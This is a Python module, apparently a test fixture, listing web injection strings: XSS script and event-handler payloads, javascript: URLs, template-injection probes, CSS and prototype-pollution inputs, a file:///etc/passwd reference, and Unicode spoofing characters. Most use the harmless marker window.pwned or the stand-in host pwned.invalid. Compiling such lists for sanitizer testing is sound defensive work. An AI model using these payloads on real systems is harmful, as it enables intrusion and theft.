"""Strings that ran something, somewhere, where text was taken for more than text."""

from __future__ import annotations

# What each tries is in its group; all set window.pwned, ask for pwned.invalid or change a prototype.
SCRIPTS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<SCRIPT SRC=//pwned.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<script\n>window.pwned=1</script\n>",
    "<script/x>window.pwned=1</script>",
    "<!--<script>window.pwned=1//-->",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</bdi></p><script>window.pwned=1</script>",
    '"></option></select><script>window.pwned=1</script>',
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext></mtext><script>window.pwned=1</script></math>",
)
HANDLERS = (
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror="window.pwned=1">',
    "'><img src=x onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1>",
    "<svg/onload=window.pwned=1//",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<marquee onstart=window.pwned=1>",
    "<a onmouseover=window.pwned=1>x</a>",
    '" onmouseover="window.pwned=1" x="',
    "' autofocus onfocus='window.pwned=1' x='",
    "x onerror=window.pwned=1",
    "<iframe onload=window.pwned=1></iframe>",
    "<style onload=window.pwned=1></style>",
    "<animate onbegin=window.pwned=1 attributeName=x>",
    "<object onerror=window.pwned=1 data=x>",
)
ADDRESSES = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "java\tscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "<a href=javascript:window.pwned=1>x</a>",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:window.pwned=1",
    "//pwned.invalid/x",
    "https://pwned.invalid/x.png",
    "file:///etc/passwd",
    "<img src=//pwned.invalid/x.png>",
    "<link rel=stylesheet href=//pwned.invalid/x.css>",
    "<link rel=prefetch href=//pwned.invalid/x>",
    "<meta http-equiv=refresh content=0;url=//pwned.invalid>",
    "<base href=//pwned.invalid/>",
    "<iframe src=//pwned.invalid></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<form action=//pwned.invalid><button>x</button></form>",
    "<embed src=//pwned.invalid/x.svg>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ constructor.constructor('window.pwned=1')() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{# comment",
    "{% raw %}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "#{7*7}",
    "<%= 7*7 %>",
    "';window.pwned=1//",
    '";window.pwned=1//',
    "\\u003cscript>window.pwned=1\\u003c/script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
)
STYLES = (
    "</style><style>*{background:url(//pwned.invalid/x)}",
    "red;background:url(//pwned.invalid/x)",
    "<style>@import '//pwned.invalid/x.css';</style>",
    "<div style=background:url(//pwned.invalid/x)>",
    "expression(window.pwned=1)",
)
NAMES = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__proto__[polluted]=1")
SIGNS = (
    "\u202egnp.exe",
    "\u2066\u2067\u2068 turned \u2069",
    "a\u200bb\ufeffc",
    "\u2028window.pwned=1\u2029",
    "\x00\x01\x1b[2J",
    "\ufffe\uffff \U0001f41f",
    "&#x3C;script&#x3E;window.pwned=1&#x3C;/script&#x3E;",
)
ATTACKS = SCRIPTS + HANDLERS + ADDRESSES + TEMPLATES + STYLES + NAMES + SIGNS
